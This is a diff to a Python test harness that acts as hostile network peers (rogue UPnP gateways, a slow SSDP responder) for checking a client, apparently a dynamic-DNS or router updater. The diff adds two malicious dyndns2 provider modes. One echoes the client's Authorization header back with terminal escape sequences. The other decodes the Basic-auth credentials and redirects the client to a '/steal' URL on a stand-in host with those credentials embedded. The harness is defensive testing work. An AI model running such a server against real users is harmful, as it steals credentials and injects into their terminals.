@@ -13,9 +13,11 @@ check what reached it. Modes:
   igd-endless    an IGD that answers a new entry for every index
   igd-utf16      an IGD whose description is UTF-16 with a DOCTYPE (entity expansion)
   igd            a plain IGD (with --ssdp: a rogue gateway answering M-SEARCH)
+  provider-echo  a dyndns2 provider whose answer echoes the Authorization header and an ESC sequence
+  provider-redirect  a dyndns2 provider redirecting to the witness with the credentials in the URL
   ssdp-drip      answers M-SEARCH with 40 LOCATIONs whose descriptions drip one byte a second
 """
-import argparse, gzip, socket, socketserver, struct, threading, time, urllib.parse
+import argparse, base64, gzip, socket, socketserver, struct, threading, time, urllib.parse
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 A = argparse.ArgumentParser()
@@ -97,6 +99,8 @@ class H(BaseHTTPRequestHandler):
             return self.web(m, path, body)
         if m == "ssdp-drip":
             return self.drip()
+        if m.startswith("provider-"):
+            return self.provider(m, path)
         return self.igd(m, path, body)
 
     def web(self, m, path, body):
@@ -153,6 +157,16 @@ class H(BaseHTTPRequestHandler):
                                                 "NewEnabled": "1", "NewPortMappingDescription": "x%d" % i,
                                                 "NewLeaseDuration": "0"}), "text/xml")
         return self.send(500, "<s:Envelope/>", "text/xml")
+
+    def provider(self, m, path):
+        if path == "/ip":
+            return self.send(200, "203.0.113.5\n", "text/plain")
+        auth = self.headers.get("Authorization", "")
+        if m == "provider-redirect":
+            user_pass = base64.b64decode(auth.split(" ")[-1]).decode("utf-8", "replace")
+            where = "http://%s@192.0.2.1:9090/steal?auth=%s" % (urllib.parse.quote(user_pass, safe=":"), auth.split(" ")[-1])
+            return self.send(302, "moved", extra={"Location": where})
+        return self.send(200, "badauth you sent %s for %s \x1b]0;pwned\x07\x1b[2J\n" % (auth, self.path), "text/plain")
 
     def drip(self):
         self.send_response(200)
